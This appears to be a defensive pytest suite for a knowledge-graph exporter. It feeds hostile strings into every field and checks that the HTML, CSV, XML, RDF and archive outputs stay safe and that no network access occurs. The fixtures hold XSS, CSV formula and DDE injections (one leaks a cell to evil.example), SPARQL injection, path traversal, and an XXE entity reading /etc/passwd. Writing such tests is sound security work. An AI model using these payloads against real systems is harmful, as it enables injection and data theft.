"""Text that means harm, in every field, and a machine without a network."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import replace
from html.parser import HTMLParser

import pyoxigraph
import pytest
from support.factories import article, entity, evidence, statement
from support.paths import ROOT

from graphbuild import rdf
from graphbuild.errors import QueryRefused
from graphbuild.export import EXPORTERS, writer
from graphbuild.knowledge.ontology import Ontology
from graphbuild.store import open_store

EVIL = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    '" . } } ; DROP ALL ; INSERT DATA { GRAPH <urn:x> { <urn:a> <urn:b> "c',
    '\\" . <urn:a> <urn:b> <urn:c> . #',
    "]]><!--&lt;b&gt;&#0;",
    "../../../../tmp/evil",
    "/etc/passwd",
    "C:\\evil",
    "javascript:alert(1)",
    "{{7*7}}${7*7}",
    "\u202egnp.exe\u202c\u200b",
)


@pytest.fixture(scope="module")
def store():
    """One article for each hostile text, which is its id, title, address, publisher and names."""
    with open_store("memory:") as opened:
        for number, text in enumerate(EVIL):
            where = article(text, f"{text} accuses {text} of hacking, {text} said.")
            where = replace(where, title=text, url=text, publisher=text)
            who = replace(entity(f"x{number}"), label=text, aliases=(text + "!",))
            whom = replace(entity(f"y{number}", "Organization"), label=text)
            seen = evidence(where, 0, len(where.text), subject=text, object=text, claimant=text)
            said = statement(who, "accuses", whom, seen, claimant=who)
            said = replace(said, qualifiers=(("conduct", text),))
            literal = statement(who, "alsoKnownAs", text, seen)
            opened.replace(where, [said, literal])
        opened.refresh()
        yield opened


@pytest.fixture(scope="module")
def written(store, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile") / "out"
    folder.mkdir()
    for name, kind in EXPORTERS.items():
        writer(name)(store, folder / f"graph-{name}{kind.suffix}", Ontology.load())
    return folder


def read(written, name):
    return (written / f"graph-{name}{EXPORTERS[name].suffix}").read_text(encoding="utf-8")


def test_the_store_holds_the_texts_and_nothing_else(store):
    assert sorted(a.id for a in store.articles()) == sorted(EVIL)
    assert {a.title for a in store.articles()} == set(EVIL)
    graphs = {g.value for g in store.backend.graphs()}
    assert all(g.startswith(rdf.BASE) for g in graphs)


def test_nothing_is_written_but_the_files_asked_for(written):
    assert len(list(written.iterdir())) == len(EXPORTERS)
    assert [p.name for p in written.parent.iterdir()] == ["out"]


class Page(HTMLParser):
    """The elements of a page with their attributes, and what stands in each script."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.scripts, self.inside = [], [], False
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.inside = tag == "script"
        if self.inside:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self.inside = False

    def handle_data(self, data):
        if self.inside:
            self.scripts[-1] += data


def test_the_page_runs_no_script_but_its_own(written, tmp_path):
    page = Page(read(written, "explorer"))
    with open_store("memory:") as harmless:
        writer("explorer")(harmless, tmp_path / "x.html", Ontology.load())
    other = Page((tmp_path / "x.html").read_text(encoding="utf-8"))
    assert page.scripts[1:] == other.scripts[1:]  # the first is the data
    assert len(page.scripts) == len(other.scripts)
    json.loads(page.scripts[0])
    assert [e for e in page.elements if e[0] in ("img", "iframe", "object")] == []
    names = {name for _, attributes in page.elements for name in attributes}
    assert not {name for name in names if name.startswith("on")}
    policies = [a.get("content", "") for tag, a in page.elements if tag == "meta"]
    assert any("default-src 'none'" in policy for policy in policies)


def test_no_cell_of_the_csv_is_a_formula(written):
    with (written / "graph-csv.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("name", ["graphml", "gexf"])
def test_xml_is_well_formed_and_holds_the_texts(written, name):
    tree = ET.fromstring(read(written, name))
    texts = {value for node in tree.iter() for value in (node.text, *node.attrib.values()) if value}
    assert EVIL[0] in texts


@pytest.mark.parametrize("name", ["jsonl", "jsonld", "cytoscape", "stix"])
def test_json_parses(written, name):
    text = read(written, name)
    parsed = (
        [json.loads(line) for line in text.splitlines()] if name == "jsonl" else json.loads(text)
    )
    assert EVIL[0] in json.dumps(parsed)


@pytest.mark.parametrize(("name", "form"), [("nq", "N_QUADS"), ("trig", "TRIG"), ("ttl", "TURTLE")])
def test_rdf_parses_into_our_names_alone(written, name, form):
    quads = pyoxigraph.parse(
        read(written, name).encode(), format=getattr(pyoxigraph.RdfFormat, form)
    )
    assert not any("urn:" in str(q.predicate) for q in quads)


def test_the_archive_for_neo4j_holds_no_path(written):
    with zipfile.ZipFile(written / "graph-neo4j.zip") as archive:
        assert all(re.fullmatch(r"[\w.-]+", name) for name in archive.namelist())


def test_an_article_with_a_hostile_id_can_be_forgotten(store):
    with open_store("memory:") as other:
        for text in EVIL:
            other.replace(article(text), [])
        for text in EVIL:
            assert other.forget(text)
        assert list(other.articles()) == []


def test_a_query_may_not_update_or_reach_out(store):
    before = [str(q) for q in store.quads()]
    for text in ("DROP ALL", "INSERT DATA { <urn:a> <urn:b> <urn:c> }", "LOAD <http://a.example/>"):
        with pytest.raises(QueryRefused, match="only queries are answered"):
            list(store.query(text).rows)
    with pytest.raises(QueryRefused, match="SERVICE is refused"):
        store.query("SELECT * { SERVICE <http://a.example/> { ?s ?p ?o } }")
    assert [str(q) for q in store.quads()] == before


NO_NETWORK = """
import socket, sys

def refuse(*arguments, **options):
    raise SystemExit("a network connection was tried")

socket.socket.connect = socket.socket.connect_ex = socket.socket.sendto = refuse
socket.getaddrinfo = socket.create_connection = refuse
"""
PAGE = (
    "<html><head><title>Radars</title><base href='http://a.example/'>"
    "<link rel=stylesheet href='http://a.example/x.css'></head><body>"
    "<iframe src='http://a.example/'></iframe><img src='http://a.example/x.png'><p>Sweden accused "
    "Russia of jamming its radars, the defence ministry said on Friday.</p></body></html>"
)
XHTML = (
    "<?xml version='1.0'?><!DOCTYPE html SYSTEM 'http://a.example/x.dtd' "
    "[<!ENTITY x SYSTEM 'http://a.example/x'><!ENTITY y SYSTEM 'file:///etc/passwd'>]>"
    "<html><body><p>Sweden accused Russia &x; of jamming &y; its radars, the ministry said on Friday."
    "</p></body></html>"
)


@pytest.mark.slow
@pytest.mark.model
def test_no_command_opens_a_network_connection(tmp_path):
    (tmp_path / "sitecustomize.py").write_text(NO_NETWORK, encoding="utf-8")
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.html").write_text(PAGE, encoding="utf-8")
    (tmp_path / "in" / "b.xhtml").write_text(XHTML, encoding="utf-8")
    out = tmp_path / "out"
    query = "SELECT DISTINCT ?a { ?a gb:accuses ?b }"
    commands = (
        ("build", tmp_path / "in", "-o", out, "--workers", "2"),
        ("query", out, query),
        *(("export", out, "--to", name) for name in ("html", "csv", "jsonld")),
        ("view", out, "--no-browser"),
    )
    paths = os.pathsep.join(map(str, (tmp_path, ROOT)))
    for command in commands:
        ran = subprocess.run(
            [sys.executable, "-m", "graphbuild", *map(str, command)],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
            env={**os.environ, "PYTHONPATH": paths},
        )
        assert ran.returncode == 0, ran.stderr
    with open_store(out, read_only=True) as opened:
        assert "root:" not in "".join(str(q) for q in opened.quads())


def test_the_refusal_of_the_network_works(tmp_path):
    (tmp_path / "sitecustomize.py").write_text(NO_NETWORK, encoding="utf-8")
    code = "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/')"
    ran = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PYTHONPATH": str(tmp_path)},
    )
    assert "a network connection was tried" in ran.stderr


@pytest.mark.parametrize("path", sorted((ROOT / "graphbuild").rglob("*.py")), ids=lambda p: p.name)
def test_nothing_is_loaded_that_can_run_code(path):
    text = path.read_text(encoding="utf-8")
    assert not re.search(
        r"\b(?:pickle|marshal|shelve|yaml\.\w*load\w*\((?![^)]*BaseLoader)|eval\(|exec\(|allow_pickle=True)\b",
        text,
    )
    assert "shell=True" not in text
